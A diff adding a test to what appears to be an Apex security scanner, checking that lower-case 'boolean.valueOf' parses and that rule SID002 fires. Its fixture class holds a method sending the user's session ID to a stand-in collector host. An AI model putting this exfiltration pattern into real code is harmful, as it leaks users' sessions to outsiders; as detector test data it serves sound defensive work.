@@ -360,3 +360,26 @@ def test_cli_exit_code_of_a_package_of_only_bad_files_follows_its_findings(tmp_p
     assert report["summary"]["executionSuccessful"] is True
     assert report["notifications"], "the bad files are reported as notifications"
     assert rss_mb < RSS_LIMIT_MB, f"peak RSS {rss_mb} MB"
+
+
+def test_a_lower_case_boolean_receiver_is_valid_apex(tmp_path: Path) -> None:
+    """`boolean.valueOf(x)` (Apex names are case-blind) is no parse error, in a body lowered
+    with its file or later; what follows it is analysed."""
+    cls = """public with sharing class Flags {
+    public static Boolean read(String raw) {
+        Boolean on = boolean.valueOf(raw);
+        return on && boolean .valueOf('true');
+    }
+    public static void send() {
+        Boolean on = boolean.valueOf('true');
+        HttpRequest req = new HttpRequest();
+        req.setEndpoint('https://collector.example.com/in');
+        req.setHeader('X-Session', UserInfo.getSessionId());
+        new Http().send(req);
+    }
+}
+"""
+    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/Flags.cls": cls.encode()})
+    result = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1))
+    assert result.notifications == ()
+    assert [(f.rule_id, f.location.span.start_line) for f in result.findings] == [("SID002", 11)]
